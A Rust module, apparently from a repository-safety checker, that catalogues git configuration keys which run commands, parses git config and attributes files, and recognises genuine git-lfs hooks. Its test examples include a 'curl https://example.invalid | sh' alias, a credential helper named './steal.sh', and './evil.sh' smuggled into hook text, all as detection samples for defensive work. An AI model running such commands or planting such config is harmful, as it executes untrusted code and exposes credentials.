//! What git reads as configuration and runs: the configuration keys whose
//! value is a program, the syntax of its config and attributes files, and
//! the hooks that never run (`*.sample`) or only start git-lfs.
//!
//! One table, [`GIT_KEYS`], for every reader: the command rules
//! (`git -c KEY=V`, `git config KEY V`, `GIT_CONFIG_KEY_<n>`), `aq preflight`
//! (a repository's config files) and `aq run`'s git guard (config files a
//! session wrote). Before it, three hand-written lists disagreed (STYLE §6).
//!
//! # Maintaining the table
//!
//! One row per key that git-config(1) documents as naming a shell command, a
//! program, a directory of hooks or more configuration to read, plus the
//! transport switch that lets a URL run a command (`protocol.ext.allow`).
//! Keep the rows sorted by `key` (a test checks). A key is written as the
//! manual writes it: `<placeholder>` stands for any subsection,
//! `<section>` for any section, `*` for any variable name. Each row's
//! `examples` are `KEY=VALUE` lines: those starting with `+` must be found
//! to run a program, those starting with `-` must not (a test runs them all),
//! as the rules of codex's execpolicy carry `match` / `not_match`.

/// What the value of a key makes git do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GitRuns {
    /// A shell command line (`core.fsmonitor`, `filter.<driver>.clean`).
    Command,
    /// A program's path (`gpg.program`, `core.askPass`).
    Program,
    /// A shell command when the value starts with `!` (`alias.*`,
    /// `submodule.<name>.update`); otherwise git's own arguments.
    Bang,
    /// A directory whose files run as hooks (`core.hooksPath`).
    Hooks,
    /// A file read as more configuration (`include.path`).
    Include,
    /// A transport switch that lets a remote URL run a command
    /// (`protocol.ext.allow`: `ext::sh -c ...`).
    Transport,
}

impl GitRuns {
    /// Whether the value itself is what runs (a command or a program), so
    /// a caller can judge it as a command line.
    pub fn value_runs(self) -> bool {
        matches!(self, GitRuns::Command | GitRuns::Program | GitRuns::Bang)
    }

    /// In a few words.
    pub fn as_str(self) -> &'static str {
        match self {
            GitRuns::Command => "runs a shell command",
            GitRuns::Program => "runs a program",
            GitRuns::Bang => "runs a shell command (a value starting with `!`)",
            GitRuns::Hooks => "runs the hooks of another directory",
            GitRuns::Include => "reads more configuration from another file",
            GitRuns::Transport => "lets a remote URL run a command (ext::)",
        }
    }
}

/// Values that run nothing, per kind of key.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GitOff {
    /// Empty, `/dev/null` and the false booleans.
    Default,
    /// Every value runs something (an alias, a filter).
    Never,
    /// [`GitOff::Default`] plus `cat` and the true booleans (`pager.log =
    /// true` uses the ordinary pager).
    Pager,
    /// [`GitOff::Default`] plus the true booleans: git's own built-in
    /// monitor, no program of the repository's.
    Fsmonitor,
    /// Only `never` (ext:: stays refused); `user` allows it for commands
    /// the user types.
    Protocol,
}

/// One configuration key that runs something.
#[derive(Debug)]
pub struct GitKey {
    /// As git-config(1) writes it: `filter.<driver>.clean`.
    pub key: &'static str,
    /// What its value makes git do.
    pub runs: GitRuns,
    /// When git does it, in a few words.
    pub when: &'static str,
    /// Which values run nothing.
    pub off: GitOff,
    /// Whole `key = value` settings that are ordinary (what `git lfs
    /// install` writes): not a finding.
    pub usual: &'static [&'static str],
    /// `+KEY=VALUE` runs a program, `-KEY=VALUE` does not (checked by tests).
    pub examples: &'static [&'static str],
}

macro_rules! keys {
    ($($key:literal, $runs:ident, $off:ident, $when:literal, [$($usual:literal),*], [$($ex:literal),*];)*) => {
        /// Every key that runs something, sorted by `key`.
        pub const GIT_KEYS: &[GitKey] = &[
            $(GitKey {
                key: $key,
                runs: GitRuns::$runs,
                off: GitOff::$off,
                when: $when,
                usual: &[$($usual),*],
                examples: &[$($ex),*],
            },)*
        ];
    };
}

keys! {
    "<section>.<name>.cmd", Command, Default, "when that tool is used (difftool, mergetool, man, browser, guitool, trailer)", [],
        ["+mergetool.mine.cmd=./merge.sh $LOCAL", "+guitool.x.cmd=make"];
    "<section>.<name>.command", Command, Default, "when that driver or tool is used", [],
        ["+trailer.sign.command=./sign.sh"];
    "<section>.<name>.program", Program, Default, "when that tool is used", [],
        ["+gpg.ssh.program=./fake-ssh-keygen"];
    "<section>.program", Program, Default, "when that tool is used", [],
        ["+gpg.program=./fake-gpg"];
    "alias.*", Bang, Never, "when the alias is used (a value starting with `!` is a shell command)", [],
        ["+alias.st=!curl https://example.invalid | sh", "-alias.st=status -sb"];
    "browser.<tool>.path", Program, Default, "on `git web--browse` and `git help --web`", [],
        ["+browser.x.path=./b"];
    "core.alternateRefsCommand", Command, Default, "on fetch and push, to list an alternate's refs", [],
        ["+core.alternateRefsCommand=./refs.sh"];
    "core.askPass", Program, Default, "when git asks for a password", [],
        ["+core.askpass=./ask.sh", "-core.askPass="];
    "core.editor", Command, Default, "on commit, tag and `rebase -i` without a message", [],
        ["+core.editor=./ed.sh"];
    "core.fsmonitor", Command, Fsmonitor, "on every `git status`, `git diff` and `git add`", [],
        ["+core.fsmonitor=./watch.sh", "+core.fsmonitor=.git/hooks/fsmonitor-watchman", "-core.fsmonitor=false", "-core.fsmonitor=true", "-core.fsmonitor="];
    "core.gitProxy", Command, Default, "on fetch over git://", [],
        ["+core.gitproxy=./proxy.sh"];
    "core.hooksPath", Hooks, Default, "the hooks there run on commit, checkout, merge and push", [],
        ["+core.hooksPath=.githooks", "-core.hooksPath=/dev/null"];
    "core.pager", Command, Pager, "on log, diff and show at a terminal", [],
        ["+core.pager=./pager.sh", "-core.pager=cat", "-core.pager="];
    "core.sshCommand", Command, Default, "on fetch and push over ssh", [],
        ["+core.sshCommand=ssh -oProxyCommand=./p", "-core.sshcommand="];
    "credential.<url>.helper", Command, Default, "when git needs credentials for that URL", [],
        ["+credential.https://example.invalid.helper=!./steal.sh"];
    "credential.helper", Command, Default, "when git needs credentials", [],
        ["+credential.helper=store", "-credential.helper="];
    "diff.<driver>.command", Command, Default, "on `git diff` of files with that diff attribute", [],
        ["+diff.pdf.command=./d.sh"];
    "diff.<driver>.textconv", Command, Default, "on `git diff` and `git log -p` of files with that diff attribute", [],
        ["+diff.exif.textconv=./conv.sh"];
    "diff.external", Command, Default, "on every `git diff`", [],
        ["+diff.external=./d.sh"];
    "difftool.<tool>.path", Program, Default, "on `git difftool`", [],
        ["+difftool.x.path=./d"];
    "filter.<driver>.clean", Command, Never, "on `git add` and `git status` of files with that filter attribute",
        ["filter.lfs.clean = git-lfs clean -- %f"],
        ["+filter.x.clean=./clean.sh", "-filter.lfs.clean=git-lfs clean -- %f", "+filter.lfs.clean=./evil.sh"];
    "filter.<driver>.process", Command, Never, "on checkout, `git add` and `git status` of files with that filter attribute",
        ["filter.lfs.process = git-lfs filter-process"],
        ["+filter.pretty.process=./format", "-filter.lfs.process=git-lfs filter-process"];
    "filter.<driver>.smudge", Command, Never, "on checkout of files with that filter attribute",
        ["filter.lfs.smudge = git-lfs smudge -- %f"],
        ["+filter.x.smudge=./smudge.sh", "-filter.lfs.smudge=git-lfs smudge -- %f"];
    "gpg.ssh.defaultKeyCommand", Command, Default, "when a commit or tag is signed with ssh", [],
        ["+gpg.ssh.defaultKeyCommand=./key.sh"];
    "hook.<name>.command", Command, Default, "on the hook event it is configured for", [],
        ["+hook.lint.command=./lint.sh"];
    "imap.tunnel", Command, Default, "on `git imap-send`", [],
        ["+imap.tunnel=./t.sh"];
    "include.path", Include, Default, "whenever the configuration is read", [],
        ["+include.path=../shared.gitconfig"];
    "includeIf.<condition>.path", Include, Default, "whenever the configuration is read and the condition holds", [],
        ["+includeIf.gitdir:~/w/.path=w.gitconfig"];
    "init.templateDir", Hooks, Default, "on `git init` and `git clone`: the hooks there are copied into the new repository and run there", [],
        ["+init.templateDir=~/.git-templates", "-init.templateDir="];
    "interactive.diffFilter", Command, Default, "on `git add -p`", [],
        ["+interactive.diffFilter=./f.sh"];
    "man.<tool>.path", Program, Default, "on `git help`", [],
        ["+man.x.path=./m"];
    "merge.<driver>.driver", Command, Default, "on merges of files with that merge attribute", [],
        ["+merge.ours.driver=./m.sh %O %A %B"];
    "mergetool.<tool>.path", Program, Default, "on `git mergetool`", [],
        ["+mergetool.x.path=./m"];
    "pager.*", Command, Pager, "on that subcommand at a terminal", [],
        ["+pager.log=./p.sh", "-pager.log=false", "-pager.diff=true"];
    "protocol.allow", Transport, Protocol, "on fetch and clone: ext:: URLs run their command", [],
        ["+protocol.allow=always", "-protocol.allow=never"];
    "protocol.ext.allow", Transport, Protocol, "on fetch and clone: ext:: URLs run their command", [],
        ["+protocol.ext.allow=always", "+protocol.ext.allow=user", "-protocol.ext.allow=never"];
    "remote.<name>.receivepack", Program, Default, "on push to that remote (run on this machine for a local or ssh remote)", [],
        ["+remote.origin.receivepack=./r.sh"];
    "remote.<name>.uploadpack", Program, Default, "on fetch from that remote (run on this machine for a local remote)", [],
        ["+remote.origin.uploadpack=./u.sh"];
    "sendemail.ccCmd", Command, Default, "on `git send-email`", [],
        ["+sendemail.cccmd=./cc.sh"];
    "sendemail.sendmailCmd", Command, Default, "on `git send-email`", [],
        ["+sendemail.sendmailCmd=./s.sh"];
    "sendemail.toCmd", Command, Default, "on `git send-email`", [],
        ["+sendemail.tocmd=./to.sh"];
    "sequence.editor", Command, Default, "on `git rebase -i`", [],
        ["+sequence.editor=./e.sh"];
    "submodule.<name>.update", Bang, Never, "on `git submodule update` (a value starting with `!` is a shell command)", [],
        ["+submodule.a.update=!./u.sh", "-submodule.a.update=rebase"];
    "uploadpack.packObjectsHook", Command, Default, "when this repository serves a fetch", [],
        ["+uploadpack.packObjectsHook=./h.sh"];
}

/// A key, split: section (lowercase), subsection (as written), variable
/// name (lowercase).
fn split_key(key: &str) -> Option<(String, Option<&str>, String)> {
    let (section, rest) = key.split_once('.')?;
    let (sub, name) = match rest.rsplit_once('.') {
        Some((sub, name)) => (Some(sub), name),
        None => (None, rest),
    };
    if section.is_empty() || name.is_empty() {
        return None;
    }
    Some((section.to_ascii_lowercase(), sub, name.to_ascii_lowercase()))
}

impl GitKey {
    /// Whether the canonical key (section and name in any case) is this row's.
    fn matches(&self, section: &str, sub: Option<&str>, name: &str) -> bool {
        let Some((p_section, p_sub, p_name)) = split_key(self.key) else {
            return false;
        };
        let placeholder = |s: &str| s.starts_with('<') && s.ends_with('>');
        let section_ok = placeholder(&p_section) || p_section == section;
        let name_ok = p_name == "*" || p_name == name;
        let sub_ok = match (p_sub, sub) {
            (None, None) => true,
            (Some(p), Some(s)) => placeholder(p) || p.eq_ignore_ascii_case(s),
            _ => false,
        };
        section_ok && name_ok && sub_ok
    }

    /// Whether `value` runs nothing for this key (see [`GitOff`]).
    fn is_off(&self, value: &str) -> bool {
        let v = value.trim();
        let lower = v.to_ascii_lowercase();
        let default = matches!(
            lower.as_str(),
            "" | "/dev/null" | "false" | "0" | "no" | "off"
        );
        let truthy = matches!(lower.as_str(), "true" | "1" | "yes" | "on");
        match self.off {
            GitOff::Default => default,
            GitOff::Never => false,
            GitOff::Pager => default || truthy || lower == "cat",
            GitOff::Fsmonitor => default || truthy,
            GitOff::Protocol => lower == "never",
        }
    }

    /// Whether `key = value` is one of this row's ordinary settings.
    fn is_usual(&self, key: &str, value: &str) -> bool {
        let words = |s: &str| s.split_whitespace().collect::<Vec<_>>().join(" ");
        let setting = format!("{} = {}", key.to_ascii_lowercase(), words(value));
        self.usual.iter().any(|u| u.to_ascii_lowercase() == setting)
    }
}

/// The row for `key` (`core.fsmonitor`, `filter.x.clean`; case does not
/// matter in the section and name), whatever its value: for a caller that
/// has only the key (`GIT_CONFIG_KEY_0`).
pub fn git_key(key: &str) -> Option<&'static GitKey> {
    let (section, sub, name) = split_key(key.trim())?;
    // Specific rows before the `<section>.…` catch-alls (which sort first).
    GIT_KEYS
        .iter()
        .filter(|k| !k.key.starts_with("<section>"))
        .chain(GIT_KEYS.iter().filter(|k| k.key.starts_with("<section>")))
        .find(|k| k.matches(&section, sub, &name))
}

/// The row for `key` when set to `value` makes git run something: not when
/// the value switches it off, is an ordinary setting (git-lfs's filter), or
/// is a plain alias. A key without a value (`[core] fsmonitor`, a boolean
/// true) runs nothing: git refuses it where a command is needed.
pub fn git_key_runs(key: &str, value: Option<&str>) -> Option<&'static GitKey> {
    let row = git_key(key)?;
    let value = value?;
    if row.is_off(value) || row.is_usual(key, value) {
        return None;
    }
    if row.runs == GitRuns::Bang && !value.trim_start().starts_with('!') {
        return None;
    }
    Some(row)
}

/// One `key = value` of a git config file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitConfigEntry {
    /// The line the key is on, from 1.
    pub line: usize,
    /// `section.subsection.name`, section and name in lowercase.
    pub key: String,
    /// The value as git reads it (quotes and escapes undone); `None` for a
    /// key alone on its line (a boolean true).
    pub value: Option<String>,
}

/// Reads a config file's bytes.
struct Cursor<'a> {
    bytes: &'a [u8],
    at: usize,
    line: usize,
}

impl Cursor<'_> {
    /// The next byte, `\r\n` read as `\n` (git's `get_next_char`).
    fn next(&mut self) -> Option<u8> {
        let c = *self.bytes.get(self.at)?;
        self.at += 1;
        if c == b'\r' && self.bytes.get(self.at) == Some(&b'\n') {
            self.at += 1;
            self.line += 1;
            return Some(b'\n');
        }
        if c == b'\n' {
            self.line += 1;
        }
        Some(c)
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.at).copied()
    }

    /// Skips to the start of the next line, unless the error was at its
    /// end (after a syntax error git refuses the whole file, so reading on
    /// finds more, never less).
    fn skip_line(&mut self) {
        if self.at > 0 && self.bytes[self.at - 1] == b'\n' {
            return;
        }
        while let Some(c) = self.next() {
            if c == b'\n' {
                return;
            }
        }
    }
}

/// The entries of a git config file, read as git reads it (`config.c`):
/// `[section]`, `[section "sub"]` and `[section.sub]` headers, a key after a
/// header on the same line, quotes, escapes, `\` continuations, `#` and `;`
/// comments. Where git would stop at a syntax error this reads on from the
/// next line, so a checker sees every key git could ever read.
pub fn parse_git_config(text: &[u8]) -> Vec<GitConfigEntry> {
    let mut out = Vec::new();
    let mut cur = Cursor {
        bytes: text.strip_prefix(b"\xef\xbb\xbf").unwrap_or(text),
        at: 0,
        line: 1,
    };
    let mut section: Option<String> = None;
    let mut comment = false;
    while let Some(c) = cur.next() {
        if c == b'\n' {
            comment = false;
            continue;
        }
        if comment || c.is_ascii_whitespace() {
            continue;
        }
        if c == b'#' || c == b';' {
            comment = true;
            continue;
        }
        if c == b'[' {
            match parse_header(&mut cur) {
                Some(s) => section = Some(s),
                None => {
                    section = None;
                    cur.skip_line();
                }
            }
            continue;
        }
        if !c.is_ascii_alphabetic() {
            cur.skip_line();
            continue;
        }
        let line = cur.line;
        let mut name = String::from(c.to_ascii_lowercase() as char);
        while let Some(n) = cur
            .peek()
            .filter(|n| n.is_ascii_alphanumeric() || *n == b'-')
        {
            name.push(n.to_ascii_lowercase() as char);
            cur.at += 1;
        }
        let mut next = cur.next();
        while matches!(next, Some(b' ' | b'\t')) {
            next = cur.next();
        }
        let value = match next {
            None | Some(b'\n') => None,
            Some(b'=') => match parse_value(&mut cur) {
                Some(v) => Some(v),
                None => {
                    cur.skip_line();
                    continue;
                }
            },
            Some(_) => {
                cur.skip_line();
                continue;
            }
        };
        if let Some(s) = &section {
            out.push(GitConfigEntry {
                line,
                key: format!("{s}.{name}"),
                value,
            });
        }
    }
    out
}

/// After `[`: `section]`, `section.sub]` (all lowercase) or
/// `section "sub"]` (the subsection as written).
fn parse_header(cur: &mut Cursor<'_>) -> Option<String> {
    let mut base = String::new();
    loop {
        let c = cur.next()?;
        if c == b']' {
            return (!base.is_empty()).then_some(base);
        }
        if c == b' ' || c == b'\t' {
            break;
        }
        if !(c.is_ascii_alphanumeric() || c == b'-' || c == b'.') {
            return None;
        }
        base.push(c.to_ascii_lowercase() as char);
    }
    let mut c = cur.next()?;
    while c == b' ' || c == b'\t' {
        c = cur.next()?;
    }
    if c != b'"' {
        return None;
    }
    let mut sub = Vec::new();
    loop {
        let mut c = cur.next()?;
        match c {
            b'\n' => return None,
            b'"' => break,
            b'\\' => {
                c = cur.next()?;
                if c == b'\n' {
                    return None;
                }
            }
            _ => {}
        }
        sub.push(c);
    }
    if cur.next()? != b']' {
        return None;
    }
    Some(format!("{base}.{}", String::from_utf8_lossy(&sub)))
}

/// After `=`: the value to the end of the line (git's `parse_value`).
fn parse_value(cur: &mut Cursor<'_>) -> Option<String> {
    let mut value = Vec::new();
    let (mut quote, mut comment, mut space) = (false, false, 0usize);
    loop {
        let c = match cur.next() {
            None | Some(b'\n') => {
                return (!quote).then(|| String::from_utf8_lossy(&value).into_owned());
            }
            Some(c) => c,
        };
        if comment {
            continue;
        }
        if c.is_ascii_whitespace() && !quote {
            if !value.is_empty() {
                space += 1;
            }
            continue;
        }
        if !quote && (c == b';' || c == b'#') {
            comment = true;
            continue;
        }
        value.extend(std::iter::repeat_n(b' ', space));
        space = 0;
        match c {
            b'\\' => match cur.next()? {
                b'\n' => {}
                b't' => value.push(b'\t'),
                b'b' => value.push(8),
                b'n' => value.push(b'\n'),
                e @ (b'\\' | b'"') => value.push(e),
                _ => return None,
            },
            b'"' => quote = !quote,
            _ => value.push(c),
        }
    }
}

/// The attributes that hand a file to a driver a config defines.
pub(crate) const GIT_DRIVER_ATTRIBUTES: &[&str] = &["diff", "filter", "merge"];

/// Drivers git has built in, that run no program unless a config gives
/// them one: diff's function-name patterns and merge's own strategies.
/// `lfs` is git-lfs's (its usual filter settings are in [`GIT_KEYS`]).
pub(crate) const GIT_BUILTIN_DRIVERS: &[&str] = &[
    "ada", "bash", "bibtex", "binary", "cpp", "csharp", "css", "default", "dts", "elixir",
    "fortran", "fountain", "golang", "html", "ini", "java", "kotlin", "lfs", "markdown", "matlab",
    "objc", "pascal", "perl", "php", "python", "r", "ruby", "rust", "scheme", "tex", "text",
    "union",
];

/// One `diff=`, `filter=` or `merge=` of an attributes file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitDriverAttribute {
    /// The line, from 1.
    pub line: usize,
    /// `diff`, `filter` or `merge`.
    pub attribute: &'static str,
    /// The driver it names (`filter.<driver>.clean` in a config).
    pub driver: String,
}

/// The driver selections of a gitattributes file (`info/attributes`,
/// `.gitattributes`), macros (`[attr]name filter=x`) included, builtin
/// drivers left out.
pub fn git_driver_attributes(text: &str) -> Vec<GitDriverAttribute> {
    let mut out = Vec::new();
    for (i, raw) in text.lines().enumerate() {
        let line = raw.trim_start();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        // The pattern: a C-style quoted string or the first word.
        let rest = if let Some(quoted) = line.strip_prefix('"') {
            let mut end = None;
            let mut escaped = false;
            for (k, ch) in quoted.char_indices() {
                match ch {
                    '\\' if !escaped => escaped = true,
                    '"' if !escaped => {
                        end = Some(k + 1);
                        break;
                    }
                    _ => escaped = false,
                }
            }
            match end {
                Some(e) => &quoted[e..],
                None => continue,
            }
        } else {
            line.split_once(char::is_whitespace).map_or("", |(_, r)| r)
        };
        for word in rest.split_whitespace() {
            let Some((name, driver)) = word.split_once('=') else {
                continue;
            };
            if let Some(attribute) = GIT_DRIVER_ATTRIBUTES.iter().find(|a| **a == name)
                && !GIT_BUILTIN_DRIVERS.contains(&driver)
            {
                out.push(GitDriverAttribute {
                    line: i + 1,
                    attribute,
                    driver: driver.to_string(),
                });
            }
        }
    }
    out
}

/// Whether a hook file never runs: git runs a hook only under its own name,
/// and `git init` installs its examples as `NAME.sample`.
pub fn git_hook_is_sample(name: &str) -> bool {
    name.ends_with(".sample")
}

/// Whether `text` is the hook git-lfs installs as `name` (`git lfs
/// install`, and `git lfs pull` and the like in a repository without
/// them): it runs `git lfs NAME "$@"`, or says git-lfs is missing. Matched
/// whole, so nothing else can hide in it.
pub fn git_hook_is_lfs(name: &str, text: &str) -> bool {
    let lines: Vec<&str> = text
        .lines()
        .map(str::trim_end)
        .filter(|l| !l.is_empty())
        .collect();
    let [shebang, check, run] = lines.as_slice() else {
        return false;
    };
    let Some(message) = check
        .strip_prefix("command -v git-lfs >/dev/null 2>&1 || { ")
        .and_then(|r| r.strip_suffix("; exit 2; }"))
    else {
        return false;
    };
    let quoted = message
        .strip_prefix("printf >&2 \"\\n%s\\n\\n\" \"")
        .or_else(|| message.strip_prefix("echo >&2 \""))
        .and_then(|m| m.strip_suffix('"'));
    // Only text inside the quotes: no quote, expansion or escape but `\n`.
    let inert = quoted
        .is_some_and(|m| !m.contains(['"', '$', '`']) && m.replace("\\n", "").find('\\').is_none());
    *shebang == "#!/bin/sh" && inert && *run == format!("git lfs {name} \"$@\"")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_table_is_sorted_and_says_when() {
        let keys: Vec<&str> = GIT_KEYS.iter().map(|k| k.key).collect();
        let mut sorted = keys.clone();
        sorted.sort_by_key(|k| k.to_ascii_lowercase());
        assert_eq!(keys, sorted);
        for k in GIT_KEYS {
            assert!(split_key(k.key).is_some(), "{}", k.key);
            assert!(!k.when.is_empty() && !k.examples.is_empty(), "{}", k.key);
        }
    }

    #[test]
    fn every_example_holds() {
        for row in GIT_KEYS {
            for ex in row.examples {
                let (sign, kv) = ex.split_at(1);
                let (key, value) = kv.split_once('=').unwrap();
                let got = git_key_runs(key, Some(value)).map(|r| r.key);
                match sign {
                    "+" => assert_eq!(got, Some(row.key), "{ex} should run ({})", row.key),
                    "-" => assert_eq!(got, None, "{ex} should not run"),
                    _ => panic!("{ex}: start with + or -"),
                }
            }
        }
    }

    #[test]
    fn keys_that_run_nothing() {
        for (k, v) in [
            ("core.bare", "false"),
            ("user.name", "Dev"),
            ("remote.origin.url", "https://example.invalid/x"),
            ("submodule.a.url", "../a"),
            ("filter.lfs.required", "true"),
            ("core.worktree", "../../a"),
        ] {
            assert!(git_key_runs(k, Some(v)).is_none(), "{k}={v}");
        }
        assert!(git_key_runs("core.fsmonitor", None).is_none());
        assert_eq!(
            git_key("CORE.FSMONITOR").map(|k| k.key),
            Some("core.fsmonitor")
        );
        assert_eq!(
            git_key("gpg.x509.program").map(|k| k.key),
            Some("<section>.<name>.program")
        );
    }

    fn entries(text: &str) -> Vec<(usize, String, Option<String>)> {
        parse_git_config(text.as_bytes())
            .into_iter()
            .map(|e| (e.line, e.key, e.value))
            .collect()
    }

    #[test]
    fn config_is_read_as_git_reads_it() {
        let text = "# c\n[core] fsmonitor = \"./a b\" ; comment\n\tbare\n[Filter \"Pretty\"]\n\tClean = ./x \\\n  --y\n[remote.Origin]\nurl=\"q\\\"\\\\\"#c\n[bad\nkey = v\n[alias]\n\tst = !echo \"a;b\" # c\n";
        assert_eq!(
            entries(text),
            vec![
                (2, "core.fsmonitor".into(), Some("./a b".into())),
                (3, "core.bare".into(), None),
                (5, "filter.Pretty.clean".into(), Some("./x   --y".into())),
                (8, "remote.origin.url".into(), Some("q\"\\".into())),
                (12, "alias.st".into(), Some("!echo a;b".into())),
            ]
        );
    }

    #[test]
    fn crlf_and_a_missing_last_newline() {
        assert_eq!(
            entries("[core]\r\n\tsshCommand = ./s\r\n\teditor=./e"),
            vec![
                (2, "core.sshcommand".into(), Some("./s".into())),
                (3, "core.editor".into(), Some("./e".into())),
            ]
        );
    }

    #[test]
    fn attributes_that_pick_a_driver() {
        let text = "# x\n*.png diff=exif\n\"a b\" filter=crypt -text\n[attr]evil merge=m\n*.c diff=cpp filter=lfs\n";
        let got: Vec<(usize, &str, String)> = git_driver_attributes(text)
            .into_iter()
            .map(|a| (a.line, a.attribute, a.driver))
            .collect();
        assert_eq!(
            got,
            vec![
                (2, "diff", "exif".into()),
                (3, "filter", "crypt".into()),
                (4, "merge", "m".into()),
            ]
        );
    }

    #[test]
    fn lfs_hooks_and_near_misses() {
        let lfs = "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { printf >&2 \"\\n%s\\n\\n\" \"This repository is configured for Git LFS but 'git-lfs' was not found on your path. If you no longer wish to use Git LFS, remove this hook by deleting the 'pre-push' file in the hooks directory (set by 'core.hookspath'; usually '.git/hooks').\"; exit 2; }\ngit lfs pre-push \"$@\"\n";
        assert!(git_hook_is_lfs("pre-push", lfs));
        assert!(!git_hook_is_lfs("post-checkout", lfs));
        let hidden = lfs.replace("your path.", "your path.\"; ./evil.sh; echo \"");
        assert!(!git_hook_is_lfs("pre-push", &hidden));
        let expanded = lfs.replace("your path.", "$(./evil.sh)");
        assert!(!git_hook_is_lfs("pre-push", &expanded));
        let more = format!("{lfs}./evil.sh\n");
        assert!(!git_hook_is_lfs("pre-push", &more));
        assert!(git_hook_is_sample("pre-commit.sample") && !git_hook_is_sample("pre-commit"));
    }
}
